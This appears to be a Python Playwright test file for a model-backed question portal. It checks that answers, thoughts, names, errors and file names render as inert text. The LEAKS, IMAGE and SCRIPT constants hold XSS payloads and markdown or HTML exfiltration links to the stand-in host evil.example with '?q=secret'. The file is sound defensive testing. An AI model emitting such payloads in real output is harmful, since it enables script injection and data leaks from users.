"""Rows O1 and L2 in a real browser: whatever an answer, a thought, a name or an error says is words.

That no stranger is asked and no policy violated, the fixture `open_portal` checks for every test.
"""

from __future__ import annotations

from typing import Any

from playwright.async_api import Page, expect

from tests.browser.conftest import OpenPortal
from tests.browser.portal import Portal
from tests.browser.test_safety import dialogs_of
from tests.people import Person
from tests.standins.ollama import OllamaStandIn, Reply

QUESTION = "How many days of paid holiday do employees have?"
IMAGE = "<img src=x onerror=alert(1)>"
SCRIPT = '"><script>alert(2)</script>'
LEAKS = (
    "![a](https://evil.example/p.png?q=secret)",
    "![a][ref]",
    "[press](https://evil.example/?q=secret)",
    "[press](javascript:alert(3))",
    "[press](data:text/html,<script>alert(4)</script>)",
    "[ref]",
    "<https://evil.example/auto>",
    "https://evil.example/bare",
    "<a href='https://evil.example/' onclick=alert(5)>html</a>",
    "<iframe src='https://evil.example/'></iframe><svg onload=alert(6)>",
    "<link rel=stylesheet href='https://evil.example/s.css'><style>@import 'https://evil.example/s.css'</style>",
)
DEFINITION = "[ref]: https://evil.example/ref 'of it'"
# Everything that leads away from the origin, loads from elsewhere, or runs.
_ESCAPES = """() => [...document.querySelectorAll("*")].flatMap((one) => {
    const away = ["href", "src", "srcset", "action", "formaction", "poster", "data", "xlink:href"]
        .filter((name) => one.hasAttribute(name))
        .filter((name) => new URL(one.getAttribute(name), document.baseURI).origin !== location.origin)
        .filter((name) => !one.getAttribute(name).startsWith("data:image/"));
    const isSaid = one.closest("[data-log]") !== null;
    const runs = one.getAttributeNames().filter((name) => name.startsWith("on") || (isSaid && name === "style"));
    return [...away, ...runs].map((name) => `${one.outerHTML.slice(0, 120)} ${name}`);
})"""


async def escapes(page: Page) -> list[str]:
    found: Any = await page.evaluate(_ESCAPES)
    return list(found)


def everywhere(leak: str) -> str:
    """The same in each kind of block."""
    code = f"```{leak}\n{leak}\n```"
    return f"{leak} [1]\n\n- {leak}\n\n> {leak}\n\n| {leak} |\n| --- |\n| {leak} |\n\n{code}"


async def test_L2_nothing_that_a_model_writes_leaves_the_page(portal: Portal, ollama: OllamaStandIn) -> None:
    heard = dialogs_of(portal.page)
    text = "\n\n".join([*map(everywhere, LEAKS), DEFINITION, "The end."])
    thoughts = "\n".join(LEAKS)
    ollama.script(Reply(text=text, thinking=thoughts, tokens_per_second=800))
    await portal.ask(QUESTION)
    await portal.answered()
    await expect(portal.answer_text).to_contain_text("The end.")
    for _ in range(2):
        assert await escapes(portal.page) == []
        await expect(portal.answer_text.locator("img, iframe, link, style, script, a:not(.chip)")).to_have_count(0)
        await portal.answer.get_by_text("Thought for").click()
        await expect(portal.answer.get_by_role("group", name="Thoughts of the model")).to_have_text(thoughts)
        address = portal.page.url
        for link in await portal.answer_text.locator(".inert-link").all():
            await link.click()
        assert portal.page.url == address
        await portal.page.reload()
    assert heard == []


async def test_O1_what_is_copied_from_an_answer_runs_nowhere(portal: Portal, ollama: OllamaStandIn) -> None:
    await portal.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    ollama.script(Reply(text=f"{IMAGE} {SCRIPT} {LEAKS[3]} [1]"))
    await portal.ask(QUESTION)
    await portal.answered()
    await portal.answer.get_by_role("button", name="Copy the answer with its sources").click()
    await expect(portal.page.locator("[data-announcer]")).to_have_text("Copied")
    html: Any = await portal.page.evaluate(
        "async () => (await (await navigator.clipboard.read())[0].getType('text/html')).text()"
    )
    paper = await portal.page.context.new_page()
    heard = dialogs_of(paper)
    await paper.set_content(html)
    await expect(paper.get_by_text("alert(2)")).to_be_visible()
    await expect(paper.locator("img, script, iframe, [onerror], a[href^='javascript']")).to_have_count(0)
    assert heard == []
    await paper.close()


async def test_O1_titles_and_names_are_words(open_portal: OpenPortal, archivist: Person) -> None:
    attack = f"{IMAGE} {SCRIPT}"
    portal = await open_portal(archivist)
    heard = dialogs_of(portal.page)
    await portal.open("settings/organisation/")
    await portal.page.get_by_label("Name", exact=True).fill(f"Mill {attack}")
    await portal.page.get_by_role("button", name="Save").first.click()
    await expect(portal.page.locator(".organisation-name").first).to_contain_text(f"Mill {attack}")
    await portal.open()
    # Until it has a better one the question is the title, too.
    await portal.ask(attack)
    await portal.answered()
    await expect(portal.page.get_by_role("article", name="You asked")).to_contain_text(attack)
    for _ in range(2):
        await expect(portal.page.get_by_role("heading", level=1)).to_contain_text(IMAGE)
        await expect(portal.conversation(IMAGE)).to_be_visible()
        assert IMAGE in await portal.page.title()
        assert await escapes(portal.page) == []
        await portal.page.reload()
    assert heard == []


async def test_O1_errors_repeat_nothing_that_runs(portal: Portal, ollama: OllamaStandIn) -> None:
    heard = dialogs_of(portal.page)
    portal.witness.expect(r"status 404: ", r"Failed to load resource: .*404")
    ollama.script(Reply(text=f"{IMAGE} and so on.", fault="error", fault_after=3), times=8)
    await portal.ask(f"{QUESTION} {SCRIPT}")
    await expect(portal.answer.locator(".failure")).to_be_visible()
    assert await escapes(portal.page) == []
    file: Any = {"name": f"{IMAGE}.exe", "mimeType": "application/octet-stream", "buffer": b"MZ"}
    await portal.page.locator("[data-file-input]").set_input_files(file)
    row = portal.page.get_by_role("listitem").filter(has_text=f"{IMAGE}.exe")
    await expect(row.get_by_text("This kind of file cannot be read yet.")).to_be_visible()
    assert await escapes(portal.page) == []
    for path in (f"nothing/{IMAGE}/", f"?persona={SCRIPT}", f"search/?q={SCRIPT}"):
        await portal.open(path)
        assert await escapes(portal.page) == []
    assert heard == []
